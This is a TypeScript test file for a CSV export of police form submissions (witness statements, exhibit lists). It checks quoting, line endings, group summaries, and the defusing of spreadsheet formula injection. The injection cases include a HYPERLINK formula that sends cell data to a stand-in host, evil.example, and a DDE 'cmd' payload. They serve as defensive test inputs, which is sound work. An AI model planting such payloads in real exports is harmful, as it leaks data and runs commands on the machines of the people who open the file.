/**
 * Submissions as CSV: RFC 4180 quoting (read back with a strict parser written here), the UTF-8
 * BOM and CRLF, headers from labels, repeating groups summarised, and every formula-injection
 * case OWASP lists defused with a leading quote.
 */
import { describe, expect, it } from "vitest";
import { mg11WitnessStatement, mg12ExhibitList } from "./national";
import { csvCell, submissionsCsv, type SubmissionCsvRow } from "./submissions-csv";

/** Parses RFC 4180 text strictly: every field quoted (as submissionsCsv writes), records ending in CRLF. */
function parseCsv(text: string): string[][] {
  expect(text.startsWith("\uFEFF")).toBe(true);
  const body = text.slice(1);
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  while (i < body.length) {
    expect(body[i]).toBe('"');
    let field = "";
    i++;
    for (;;) {
      const quote = body.indexOf('"', i);
      expect(quote).toBeGreaterThanOrEqual(0);
      field += body.slice(i, quote);
      i = quote + 1;
      if (body[i] === '"') {
        field += '"';
        i++;
      } else break;
    }
    record.push(field);
    if (body[i] === ",") i++;
    else {
      expect(body.slice(i, i + 2)).toBe("\r\n");
      i += 2;
      records.push(record);
      record = [];
    }
  }
  expect(record).toEqual([]);
  return records;
}

const row = (answers: Record<string, unknown>, overrides: Partial<SubmissionCsvRow> = {}): SubmissionCsvRow => ({
  id: "7d0c4b1e-0000-4000-8000-000000000001",
  submittedAt: new Date("2026-05-01T09:30:00Z"),
  status: "submitted",
  owner: "PC Tom Hughes",
  marking: "OFFICIAL-SENSITIVE",
  answers,
  ...overrides,
});

describe("submissionsCsv", () => {
  it("heads the columns with the submission's details and each top-level field's label", () => {
    const [header] = parseCsv(submissionsCsv(mg12ExhibitList, []));
    expect(header).toEqual(["ID", "Status", "Owner", "Submitted at", "Marking", "URN", "R v", "Officer in the case", "Exhibits"]);
    const [mg11Header] = parseCsv(submissionsCsv(mg11WitnessStatement, []));
    expect(mg11Header).toContain("Statement of");
    expect(mg11Header).toContain("Home address");
    // One column per top-level field, none for a group's inner fields.
    expect(mg11Header).not.toContain("From");
    expect(mg11Header).toHaveLength(5 + Object.keys(mg11WitnessStatement.schema.properties as object).length);
  });

  it("writes a UTF-8 BOM, CRLF between records, and every cell quoted with its quotes doubled", () => {
    const csv = submissionsCsv(mg12ExhibitList, [row({ urn: "50AB1234526", defendants: 'John "Jack" Smith, Jane Doe', officerInCase: "DS Priya Shah" })]);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.endsWith("\r\n")).toBe(true);
    expect(csv).toContain('"John ""Jack"" Smith, Jane Doe"');
    const [, record] = parseCsv(csv);
    expect(record).toEqual(["7d0c4b1e-0000-4000-8000-000000000001", "submitted", "PC Tom Hughes", "2026-05-01T09:30:00.000Z", "OFFICIAL-SENSITIVE", "50AB1234526", 'John "Jack" Smith, Jane Doe', "DS Priya Shah", ""]);
  });

  it("keeps line breaks inside their cell", () => {
    const statementText = "First line.\r\nSecond line.\nThird, with a comma and \"quotes\".";
    const records = parseCsv(submissionsCsv(mg11WitnessStatement, [row({ witnessName: "Zoë Witness", isOver18: true, statementText })]));
    expect(records).toHaveLength(2);
    const header = records[0]!;
    expect(records[1]![header.indexOf("Statement")]).toBe(statementText);
    expect(records[1]![header.indexOf("Statement of")]).toBe("Zoë Witness");
    expect(records[1]![header.indexOf("Is the witness over 18?")]).toBe("Yes");
  });

  it.each([
    ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', `'=HYPERLINK("https://evil.example/?d="&A1,"Click")`],
    ["+1", "'+1"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", "'\r=1+1"],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ])("defuses a cell beginning %j with a leading quote", (value, expected) => {
    expect(csvCell(value)).toBe(`"${expected.replace(/"/g, '""')}"`);
    // In an answer, in the submission's own columns, and in a header (a local form's label).
    const records = parseCsv(submissionsCsv(mg12ExhibitList, [row({ urn: "50AB1", defendants: value }, { owner: value })]));
    expect(records[1]![2]).toBe(expected);
    expect(records[1]![6]).toBe(expected);
    const local = { layout: { pages: [{ id: "p", title: "P", sections: [{ id: "s", title: "S", isDisclosable: true, items: [{ field: "note", label: value }] }] }] } };
    expect(parseCsv(submissionsCsv(local, []))[0]![5]).toBe(expected);
  });

  it("leaves harmless text alone, even with a formula character later on", () => {
    expect(csvCell("A=1")).toBe('"A=1"');
    expect(csvCell("50AB-1")).toBe('"50AB-1"');
    expect(csvCell("")).toBe('""');
  });

  it("summarises a repeating group: the count, then each item's fields joined by '; '", () => {
    const exhibits = [
      { reference: "JS/1", description: "Black Nokia mobile phone", sealNumber: "A123" },
      { reference: "JS/2", description: "Knife; 20 cm blade" },
    ];
    const records = parseCsv(submissionsCsv(mg12ExhibitList, [row({ urn: "50AB1", officerInCase: "DS Priya Shah", exhibits }), row({ urn: "50AB2", officerInCase: "DS Priya Shah" })]));
    expect(records[1]![8]).toBe(
      "2 items | Exhibit 1: Exhibit reference: JS/1; Description: Black Nokia mobile phone; Seal or bag number: A123 | Exhibit 2: Exhibit reference: JS/2; Description: Knife; 20 cm blade",
    );
    expect(records[2]![8]).toBe("");
  });

  it("leaves out answers of hidden parts and writes a draft's missing submission time as empty", () => {
    const records = parseCsv(
      submissionsCsv(mg11WitnessStatement, [row({ witnessName: "A", isOver18: true, ageIfUnder18: 12, hasDatesToAvoid: false, datesToAvoid: [{ from: "2026-01-01", to: "2026-01-02" }] }, { submittedAt: null, status: "draft" })]),
    );
    const [header, record] = records as [string[], string[]];
    expect(record[header.indexOf("Age of the witness")]).toBe("");
    expect(record[header.indexOf("Dates the witness is not available")]).toBe("");
    expect(record[header.indexOf("Does the witness have dates to avoid?")]).toBe("No");
    expect(record[header.indexOf("Submitted at")]).toBe("");
  });
});
